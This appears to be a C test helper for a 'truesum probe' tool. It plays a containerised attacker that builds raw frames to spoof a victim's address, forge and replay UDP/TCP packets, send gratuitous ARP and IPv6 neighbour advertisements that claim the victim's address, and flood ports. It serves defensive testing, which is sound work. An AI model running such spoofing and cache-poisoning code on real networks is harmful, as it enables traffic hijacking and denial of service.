// SPDX-License-Identifier: GPL-2.0-or-later
/*
 * An attacker in a container, for tests of `truesum probe`: tries to be taken for another
 * container, or for the probe's peer. Until it is killed:
 *     attack claim               as an ordinary user: datagrams and connections to the peer's ports
 *     attack flood               the same, as many datagrams as it can
 *     attack HOW DEV VICTIM MAC SOURCE-MAC
 *         with CAP_NET_RAW, frames on DEV: HOW is a list of letters:
 *             s  as VICTIM to the peer: requests, SYNs, acknowledgements, resets
 *             a  as the peer to VICTIM: datagrams and segments, with right and with wrong sums
 *             r  replays to both what it has seen of its own exchanges with the peer
 *             x  from made-up addresses to the peer
 *             q  as VICTIM and as made-up addresses, questions for the peer's MAC address
 *             c  claims VICTIM's address for SOURCE-MAC: ARP replies, advertisements
 *             f  frames that say nothing but SOURCE-MAC, so that a bridge finds that address here
 *         MAC is where frames go, SOURCE-MAC where they claim to come from.
 * Shares no code with src/.
 */
#include <arpa/inet.h>
#include <errno.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <netinet/ether.h>
#include <netinet/in.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

#define PEER_V4 "192.0.2.2"
#define PEER_V6 "2001:db8:7473:756d::2"
#define OLD_PORTS 16384 /* where probes before this test's fix began to count */
#define SEEN_MAX 64
#define FRAME_MAX 600

static uint64_t state = 88172645463325252ULL;

static uint32_t draw(void)
{
	state ^= state << 13;
	state ^= state >> 7;
	state ^= state << 17;
	return (uint32_t)(state >> 16);
}

/* Half of the time one of the ports that used to be guessable. */
static uint16_t draw_port(void)
{
	return (uint16_t)(draw() % 2 ? OLD_PORTS + draw() % 48 : 1024 + draw() % 64512);
}

/* ---- As an ordinary user ---- */

static void send_datagram(int fd, const char *text)
{
	struct sockaddr_in to = { .sin_family = AF_INET, .sin_port = htons(draw_port()) };

	inet_pton(AF_INET, PEER_V4, &to.sin_addr);
	sendto(fd, text, strlen(text), MSG_DONTWAIT, (const struct sockaddr *)&to, sizeof(to));
}

static void try_connection(void)
{
	struct sockaddr_in to = { .sin_family = AF_INET, .sin_port = htons(draw_port()) };
	struct linger reset = { .l_onoff = 1 };
	int fd = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK, 0);

	inet_pton(AF_INET, PEER_V4, &to.sin_addr);
	setsockopt(fd, SOL_SOCKET, SO_LINGER, &reset, sizeof(reset));
	if (connect(fd, (const struct sockaddr *)&to, sizeof(to)) < 0 && errno != EINPROGRESS)
		usleep(1000); /* no room for more */
	close(fd);
}

static _Noreturn void run_unprivileged(int flood)
{
	int fd = socket(AF_INET, SOCK_DGRAM, 0);

	for (;;) {
		send_datagram(fd, "truesum probe");
		if (!flood)
			try_connection();
	}
}

/* ---- Frames ---- */

static uint8_t frame[FRAME_MAX];

struct who {
	uint8_t mac[6], source_mac[6];
	int v6;
	uint8_t victim[16], peer[16];
	size_t address_len;
};

static void put16(uint8_t *at, unsigned int value)
{
	at[0] = (uint8_t)(value >> 8);
	at[1] = (uint8_t)value;
}

static void put32(uint8_t *at, uint32_t value)
{
	put16(at, value >> 16);
	put16(at + 2, value);
}

static uint32_t add_sum(uint32_t sum, const uint8_t *bytes, size_t len)
{
	for (size_t i = 0; i < len; i++)
		sum += i % 2 ? bytes[i] : (uint32_t)bytes[i] << 8;
	return sum;
}

static unsigned int fold(uint32_t sum)
{
	while (sum >> 16)
		sum = (sum & 0xffff) + (sum >> 16);
	return ~sum & 0xffff;
}

/* Writes Ethernet and IP headers before `len` bytes of transport; returns where these begin. */
static uint8_t *put_ip(const struct who *who, const uint8_t *src, const uint8_t *dst, uint8_t proto,
		       size_t len, uint8_t hops)
{
	uint8_t *ip = frame + 14;

	memcpy(frame, who->mac, 6);
	memcpy(frame + 6, who->source_mac, 6);
	put16(frame + 12, who->v6 ? 0x86dd : 0x0800);
	memset(ip, 0, who->v6 ? 40 : 20);
	if (who->v6) {
		ip[0] = 0x60;
		put16(ip + 4, (unsigned int)len);
		ip[6] = proto;
		ip[7] = hops;
		memcpy(ip + 8, src, 16);
		memcpy(ip + 24, dst, 16);
		return ip + 40;
	}
	ip[0] = 0x45;
	put16(ip + 2, (unsigned int)(20 + len));
	ip[8] = hops;
	ip[9] = proto;
	memcpy(ip + 12, src, 4);
	memcpy(ip + 16, dst, 4);
	put16(ip + 10, fold(add_sum(0, ip, 20)));
	return ip + 20;
}

/* The sum at `field`; wrong one time in two if `wrong`. Returns the frame's length. */
static size_t finish(const struct who *who, const uint8_t *src, const uint8_t *dst, uint8_t proto,
		     uint8_t *transport, size_t len, size_t field, int wrong)
{
	uint32_t sum = add_sum(add_sum(proto + (uint32_t)len, src, who->address_len), dst,
			       who->address_len);

	put16(transport + field, 0);
	put16(transport + field, fold(add_sum(sum, transport, len)) ^ (wrong ? draw() % 2 : 0));
	return (size_t)(transport - frame) + len;
}

static size_t build_datagram(const struct who *who, const uint8_t *src, const uint8_t *dst,
			     const uint8_t *payload, size_t payload_len, int to_peer, int wrong)
{
	size_t len = 8 + payload_len;
	uint8_t *udp = put_ip(who, src, dst, IPPROTO_UDP, len, 64);
	uint16_t peer = draw_port(), other = (uint16_t)(32768 + draw() % 28232);

	put16(udp, to_peer ? other : peer);
	put16(udp + 2, to_peer ? peer : other);
	put16(udp + 4, (unsigned int)len);
	memcpy(udp + 8, payload, payload_len);
	return finish(who, src, dst, IPPROTO_UDP, udp, len, 6, wrong);
}

static size_t build_segment(const struct who *who, const uint8_t *src, const uint8_t *dst,
			    const uint8_t *payload, size_t payload_len, int to_peer, int wrong)
{
	static const uint8_t flags[] = { 0x02, 0x10, 0x18, 0x14, 0x12, 0x04 };
	size_t len = 20 + payload_len;
	uint8_t *tcp = put_ip(who, src, dst, IPPROTO_TCP, len, 64);
	uint16_t peer = draw_port(), other = (uint16_t)(32768 + draw() % 28232);

	put16(tcp, to_peer ? other : peer);
	put16(tcp + 2, to_peer ? peer : other);
	put32(tcp + 4, draw());
	put32(tcp + 8, draw() % 2 ? 0x74730001 : draw()); /* acknowledges what used to be fixed */
	tcp[12] = 5 << 4;
	tcp[13] = flags[draw() % sizeof(flags)];
	put16(tcp + 14, 65535);
	put32(tcp + 16, 0);
	memcpy(tcp + 20, payload, payload_len);
	return finish(who, src, dst, IPPROTO_TCP, tcp, len, 16, wrong);
}

static size_t build_any(const struct who *who, const uint8_t *src, const uint8_t *dst,
			const uint8_t *payload, size_t len, int to_peer, int wrong)
{
	return draw() % 2 ? build_datagram(who, src, dst, payload, len, to_peer, wrong)
			  : build_segment(who, src, dst, draw() % 2 ? payload : NULL, 0, to_peer,
					  wrong);
}

static const uint8_t *draw_address(const struct who *who, uint8_t address[16])
{
	put32(address, who->v6 ? 0x2a000000 | draw() % 0xffff : 0x08000000 | draw() % 0xffffff);
	put32(address + 4, draw());
	put32(address + 8, draw());
	put32(address + 12, draw());
	return address;
}

/* An ARP packet before which the frame's addresses are written already. */
static size_t put_arp(const struct who *who, uint8_t operation, const uint8_t *src,
		      const uint8_t *dst)
{
	uint8_t *at = frame + 14;

	memcpy(frame + 6, who->source_mac, 6);
	put16(frame + 12, 0x0806);
	memcpy(at, "\0\1\10\0\6\4\0", 7);
	at[7] = operation;
	memcpy(at + 8, who->source_mac, 6);
	memcpy(at + 14, src, 4);
	memset(at + 18, 0, 6);
	memcpy(at + 24, dst, 4);
	return 14 + 28;
}

/*
 * Gratuitous ARP, to one or to all, as a question (believed at once) or a reply (if the entry is a
 * second old); over IPv6 an advertisement to all nodes that overrides
 * what they know.
 */
static size_t build_claim(const struct who *who)
{
	static const uint8_t all_nodes[16] = { 0xff, 0x02, [15] = 1 };
	uint8_t *at;

	if (who->v6) {
		at = put_ip(who, who->victim, all_nodes, IPPROTO_ICMPV6, 32, 255);
		memset(at, 0, 32);
		at[0] = 136;
		at[4] = 0x20;
		memcpy(at + 8, who->victim, 16);
		at[24] = 2;
		at[25] = 1;
		memcpy(at + 26, who->source_mac, 6);
		return finish(who, who->victim, all_nodes, IPPROTO_ICMPV6, at, 32, 2, 0);
	}
	memcpy(frame, who->mac, 6);
	if (draw() % 2)
		memset(frame, 0xff, 6);
	return put_arp(who, draw() % 2 ? 1 : 2, who->victim, who->victim);
}

static size_t build_nothing(const struct who *who)
{
	memcpy(frame, who->mac, 6);
	memcpy(frame + 6, who->source_mac, 6);
	put16(frame + 12, 0x88b5); /* for experiments (IEEE 802) */
	memset(frame + 14, 0, 46);
	return 60;
}

/* ARP over IPv4, a neighbour solicitation over IPv6. */
static size_t build_question(const struct who *who, const uint8_t *src)
{
	uint8_t *at;

	if (who->v6) {
		at = put_ip(who, src, who->peer, IPPROTO_ICMPV6, 24, draw() % 2 ? 255 : 64);
		memset(at, 0, 24);
		at[0] = 135;
		memcpy(at + 8, who->peer, 16);
		return finish(who, src, who->peer, IPPROTO_ICMPV6, at, 24, 2, 0);
	}
	memset(frame, 0xff, 6);
	return put_arp(who, 1, src, who->peer);
}

/* ---- What it sees of the peer ---- */

static struct seen {
	uint8_t payload[200];
	size_t len;
} seen[SEEN_MAX];
static unsigned int seen_count;

/* Keeps the UDP payloads of its own exchanges with the peer. */
static void look(int fd, const struct who *who)
{
	uint8_t got[2000];
	size_t head = who->v6 ? 14 + 40 + 8 : 14 + 20 + 8;
	ssize_t len;

	while ((len = recv(fd, got, sizeof(got), MSG_DONTWAIT)) > 0) {
		struct seen *slot = &seen[seen_count % SEEN_MAX];

		if ((size_t)len <= head ||
		    (memcmp(got + (who->v6 ? 22 : 26), who->peer, who->address_len) != 0 &&
		     memcmp(got + (who->v6 ? 38 : 30), who->peer, who->address_len) != 0))
			continue;
		slot->len = (size_t)len - head;
		if (slot->len > sizeof(slot->payload))
			slot->len = sizeof(slot->payload);
		memcpy(slot->payload, got + head, slot->len);
		seen_count++;
	}
}

static size_t build_attack(char how, const struct who *who)
{
	static const uint8_t request[] = "truesum probe", letter[128] = "#1 at 4000. a letter";
	unsigned int known = seen_count < SEEN_MAX ? seen_count : SEEN_MAX;
	const struct seen *old = known ? &seen[draw() % known] : NULL;
	uint8_t address[16];
	int to_peer = draw() % 2;

	switch (how) {
	case 's':
		return build_any(who, who->victim, who->peer, request, 13, 1, 0);
	case 'a':
		return build_any(who, who->peer, who->victim, letter, sizeof(letter), 0, 1);
	case 'r':
		return !old	 ? 0
		       : to_peer ? build_any(who, who->victim, who->peer, old->payload, old->len, 1,
					     0)
				 : build_any(who, who->peer, who->victim, old->payload, old->len, 0,
					     1);
	case 'x':
		return build_any(who, draw_address(who, address), who->peer, request, 13, 1, 0);
	case 'q':
		return build_question(who, to_peer ? who->victim : draw_address(who, address));
	case 'c':
		return build_claim(who);
	case 'f':
		return build_nothing(who);
	default:
		return 0;
	}
}

static _Noreturn void run_raw(const char *how, const char *dev, struct who *who)
{
	struct sockaddr_ll on = { .sll_family = AF_PACKET,
				  .sll_protocol = htons(ETH_P_ALL),
				  .sll_ifindex = (int)if_nametoindex(dev) };
	int fd = socket(AF_PACKET, SOCK_RAW, 0), in = socket(AF_PACKET, SOCK_RAW, 0);

	if (fd < 0 || in < 0 || bind(in, (const struct sockaddr *)&on, sizeof(on)) < 0) {
		perror("attack: packet socket");
		exit(1);
	}
	for (unsigned long round = 0;; round++) {
		size_t len = build_attack(how[round % strlen(how)], who);

		if (len)
			sendto(fd, frame, len, 0, (const struct sockaddr *)&on, sizeof(on));
		if (round % 64 == 0)
			look(in, who);
	}
}

int main(int argc, char **argv)
{
	struct who who = { 0 };

	state += (uint64_t)getpid() << 20;
	if (argc == 2 && (!strcmp(argv[1], "claim") || !strcmp(argv[1], "flood")))
		run_unprivileged(!strcmp(argv[1], "flood"));
	if (argc != 6 || !ether_aton_r(argv[4], (struct ether_addr *)who.mac) ||
	    !ether_aton_r(argv[5], (struct ether_addr *)who.source_mac)) {
		fprintf(stderr, "usage: attack claim|flood\n"
				"       attack HOW DEV VICTIM MAC SOURCE-MAC\n");
		return 2;
	}
	who.v6 = strchr(argv[3], ':') != NULL;
	who.address_len = who.v6 ? 16 : 4;
	inet_pton(who.v6 ? AF_INET6 : AF_INET, argv[3], who.victim);
	inet_pton(who.v6 ? AF_INET6 : AF_INET, who.v6 ? PEER_V6 : PEER_V4, who.peer);
	run_raw(argv[1], argv[2], &who);
}
